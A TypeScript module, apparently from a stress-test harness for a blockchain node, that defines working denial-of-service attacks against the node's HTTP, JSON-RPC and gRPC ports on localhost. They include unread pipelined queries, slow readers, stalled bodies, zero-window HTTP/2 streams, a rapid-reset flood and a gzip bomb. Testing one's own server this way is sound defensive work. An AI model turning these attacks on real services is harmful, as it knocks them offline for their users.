/** Clients that request much over one connection, and read nothing. */

import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { type Attack, attackerHost, tally } from "../attack.js";
import { grpcCall } from "../grpc-call.js";
import { GREETING, resetCalls } from "../http2-frames.js";

const CONNECTIONS = 4;

/** Cycles through the heights of the chain's heavy blocks. */
const heavyBlock = (n: number): number => 41 + (n % 30);

const pipelined = (
	name: string,
	sends: string,
	server: "http" | "jsonrpc",
	request: (n: number) => string,
): Attack => ({
	name,
	sends,
	async run({ ports }, durationMs) {
		const sockets: Socket[] = [];
		let closed = 0;
		const text = Buffer.from(Array.from({ length: 400 }, (_, n) => request(n)).join(""));
		for (let n = 0; n < CONNECTIONS; n++) {
			const socket = connect({ host: "127.0.0.1", port: ports[server], localAddress: attackerHost(n) });
			socket.on("error", () => {});
			socket.on("close", () => closed++);
			// Nothing is read, so answers stay in the node's memory.
			socket.pause();
			socket.write(text);
			sockets.push(socket);
		}
		await sleep(durationMs);
		for (const socket of sockets) socket.destroy();
		return `${CONNECTIONS - closed} of ${CONNECTIONS} kept`;
	},
});

const grpcUnread: Attack = {
	name: "grpc-unread",
	sends: "2,000 gRPC calls of 450 KB answers over 2 connections whose windows stay closed",
	async run({ ports }, durationMs) {
		const frame = (n: number): Buffer => Buffer.of(0, 0, 0, 0, 2, 8, heavyBlock(n));
		const sessions = [0, 1].map((n) => {
			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
				settings: { initialWindowSize: 0 },
				createConnection: () =>
					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n) }),
			});
			session.on("error", () => {});
			return session;
		});
		let refused = 0;
		const end = Date.now() + durationMs;
		for (let n = 0; n < 2000 && Date.now() < end; n++) {
			const session = sessions[n % 2];
			if (!session || session.destroyed) break;
			const stream = session.request({
				":method": "POST",
				":path": "/protocol.Wallet/GetBlockByNum",
				"content-type": "application/grpc",
				te: "trailers",
			});
			stream.on("error", () => refused++);
			stream.end(frame(n));
			if (n % 50 === 0) await sleep(10);
		}
		await sleep(Math.max(0, end - Date.now()));
		for (const session of sessions) session.destroy();
		return `${refused} refused`;
	},
};

const SLOW_READERS = 16;

/** A query of the chain's heavy blocks from `from` to before `to`. */
const blocksFrame = (from: number, to: number): Buffer => Buffer.of(0, 0, 0, 0, 4, 8, from, 16, to);
const BLOCKS = "/protocol.Wallet/GetBlockByLimitNext";

/** Meanwhile, another client requests a long message. */
const grpcSlowReaders: Attack = {
	name: "grpc-slow-readers",
	sends: `${SLOW_READERS} gRPC calls of 30 blocks of 450 KB from 4 addresses whose windows stay closed, made again when broken off`,
	async run({ ports }, durationMs) {
		const end = Date.now() + durationMs;
		let brokenOff = 0;
		const sessions = Array.from({ length: SLOW_READERS }, (_, n) => {
			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
				settings: { initialWindowSize: 0 },
				createConnection: () =>
					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n % 4) }),
			});
			session.on("error", () => {});
			const call = (): void => {
				if (session.destroyed || Date.now() > end) return;
				const stream = session.request({
					":method": "POST",
					":path": BLOCKS,
					"content-type": "application/grpc",
					te: "trailers",
				});
				stream.on("error", () => {});
				stream.on("close", () => {
					brokenOff++;
					setTimeout(call, 100);
				});
				stream.end(blocksFrame(41, 71));
			};
			session.on("connect", call);
			return session;
		});
		let worstMs = 0;
		const outcomes: string[] = [];
		while (Date.now() < end) {
			await sleep(200);
			const started = performance.now();
			outcomes.push(await grpcCall(ports.grpc, BLOCKS, blocksFrame(41, 43), "127.0.9.9"));
			worstMs = Math.max(worstMs, performance.now() - started);
		}
		for (const session of sessions) session.destroy();
		return { text: `${brokenOff} broken off; others: ${tally(outcomes)}`, worstMs };
	},
};

/** Opens HTTP/2 streams that never end. @param first data sent on each */
const openStreams = (name: string, sends: string, count: number, headers: object, first: Buffer): Attack => ({
	name,
	sends,
	async run({ ports }, durationMs) {
		const sessions = [0, 1, 2, 3].map((n) => {
			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
				maxSessionMemory: 1_000,
				createConnection: () =>
					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n) }),
			});
			session.on("error", () => {});
			return session;
		});
		const outcomes: string[] = [];
		const end = Date.now() + durationMs;
		for (let n = 0; n < count && Date.now() < end; n++) {
			const session = sessions[n % sessions.length];
			if (!session || session.destroyed) continue;
			const stream = session.request({
				":method": "POST",
				":path": "/protocol.Wallet/GetAccount",
				"content-type": "application/grpc",
				te: "trailers",
				...headers,
			});
			stream.on("error", () => outcomes.push("refused"));
			stream.on("response", (answer) => outcomes.push(`status ${answer["grpc-status"]}`));
			if (first.length > 0) stream.write(first);
			if (n % 50 === 0) await sleep(5);
		}
		await sleep(Math.max(0, end - Date.now()));
		const kept = sessions.filter((session) => !session.destroyed).length;
		for (const session of sessions) session.destroy();
		return `${kept} of ${sessions.length} connections kept; ${tally(outcomes)}`;
	},
});

const SLOW_READ_BYTES = 2_000;

const range = (from: number, to: number): string => JSON.stringify({ startNum: from, endNum: to });

/** Meanwhile, another client requests a long answer. */
const slowReaders: Attack = {
	name: "slow-readers",
	sends: `${SLOW_READERS} queries of 30 blocks of 450 KB from 4 addresses, read at 20 KB a second`,
	meanwhile: { server: "http", path: "/wallet/getblockbylimitnext", body: range(41, 42), host: "127.0.9.9" },
	async run({ ports }, durationMs) {
		const body = range(41, 71);
		const request = `POST /wallet/getblockbylimitnext HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
		let closed = 0;
		let read = 0;
		const sockets: Socket[] = [];
		for (let n = 0; n < SLOW_READERS; n++) {
			const socket = connect({ host: "127.0.0.1", port: ports.http, localAddress: attackerHost(n % 4) });
			socket.on("error", () => {});
			socket.on("close", () => closed++);
			socket.on("readable", () => {});
			socket.write(request);
			sockets.push(socket);
			// Opening many connections at once is another attack.
			await sleep(100);
		}
		const end = Date.now() + durationMs;
		while (Date.now() < end) {
			await sleep(100);
			for (const socket of sockets) read += socket.read(SLOW_READ_BYTES)?.length ?? 0;
		}
		for (const socket of sockets) socket.destroy();
		if (read === 0) throw new Error("nothing was answered");
		return `${SLOW_READERS - closed} of ${SLOW_READERS} kept; ${Math.round(read / 1024)} KiB read`;
	},
};

/** Sizes of bodies that leave 30 KB of the 64 MiB for all bodies. */
const STALLED: readonly number[] = [...Array<number>(17).fill(3_900_000), 780_000];

/** Meanwhile, another client sends a body. */
const stalledBodies: Attack = {
	name: "stalled-bodies",
	sends: `${STALLED.length} bodies from 3 addresses that stall before their end and leave no room, sent anew when they are ended`,
	meanwhile: {
		server: "http",
		path: "/wallet/getblockbynum",
		body: JSON.stringify({ num: 41, visible: true }).padEnd(100_000),
		host: "127.0.9.9",
	},
	async run({ ports }, durationMs) {
		const head = `POST /wallet/getblockbynum HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n`;
		const end = Date.now() + durationMs;
		const outcomes: string[] = [];
		const again = async (n: number, size: number): Promise<void> => {
			while (Date.now() < end) {
				const socket = connect({ host: "127.0.0.1", port: ports.http, localAddress: attackerHost(n % 3) });
				socket.on("error", () => {});
				socket.on("data", (data: Buffer) => outcomes.push(data.toString("latin1").split("\r\n")[0] ?? ""));
				const closed = new Promise((resolve) => socket.once("close", resolve));
				socket.write(head);
				socket.write(Buffer.alloc(size, " "));
				await Promise.race([closed, sleep(Math.max(0, end - Date.now()))]);
				socket.destroy();
			}
		};
		await Promise.all(STALLED.map((size, n) => again(n, size)));
		return `sent; ${tally(outcomes) || "nothing answered"}`;
	},
};

const RESETS = 2_500;

const grpcReset: Attack = {
	name: "grpc-reset",
	sends: `${RESETS.toLocaleString("en")} gRPC calls at once, each reset right behind its opening, over ${CONNECTIONS} connections, opened again when closed`,
	async run({ ports }, durationMs) {
		const bytes = Buffer.concat([GREETING, resetCalls("/protocol.Wallet/GetNowBlock", RESETS)]);
		const end = Date.now() + durationMs;
		let ended = 0;
		const again = async (n: number): Promise<void> => {
			while (Date.now() < end) {
				const socket = connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n) });
				socket.on("error", () => {});
				const closed = new Promise((resolve) => socket.once("close", resolve));
				socket.resume();
				socket.write(bytes);
				await Promise.race([closed, sleep(Math.max(0, end - Date.now()))]);
				if (Date.now() < end) ended++;
				socket.destroy();
			}
		};
		await Promise.all(Array.from({ length: CONNECTIONS }, (_, n) => again(n)));
		return tally(Array<string>(ended).fill("connection ended"));
	},
};

/** A message without its last bytes. */
const partial = Buffer.concat([Buffer.of(0, 0, 0x3d, 0x09, 0), Buffer.alloc(3_900_000)]);

/** Four messages in one HTTP/2 frame, each 4 MB when decompressed. */
const bomb = ((): Buffer => {
	const packed = gzipSync(Buffer.alloc(4_000_000));
	const message = Buffer.concat([Buffer.of(1, 0, 0, packed.length >> 8, packed.length & 0xff), packed]);
	return Buffer.concat(Array(4).fill(message));
})();

export const unreadAnswers: readonly Attack[] = [
	pipelined(
		"pipelined-blocks",
		"400 queries of blocks of 450 KB on each of 4 connections at once, nothing read",
		"http",
		(n) => `GET /wallet/getblockbynum?num=${heavyBlock(n)} HTTP/1.1\r\nHost: a\r\n\r\n`,
	),
	pipelined(
		"pipelined-rpc",
		"400 JSON-RPC queries of blocks of 450 KB on each of 4 connections at once, nothing read",
		"jsonrpc",
		(n) => {
			const body = `{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["0x${heavyBlock(n).toString(16)}",true]}`;
			return `POST /jsonrpc HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
		},
	),
	slowReaders,
	stalledBodies,
	grpcUnread,
	grpcSlowReaders,
	grpcReset,
	openStreams(
		"grpc-open",
		"20,000 gRPC calls over 4 connections that never say anything",
		20_000,
		{},
		Buffer.alloc(0),
	),
	openStreams(
		"grpc-partial",
		"400 gRPC calls that send 3.9 MB of a message of 4 MB, and no more",
		400,
		{},
		partial,
	),
	openStreams(
		"grpc-gzip",
		"400 gRPC calls that never end, each with four messages of 4 MB packed in 16 KB",
		400,
		{ "grpc-encoding": "gzip" },
		bomb,
	),
];
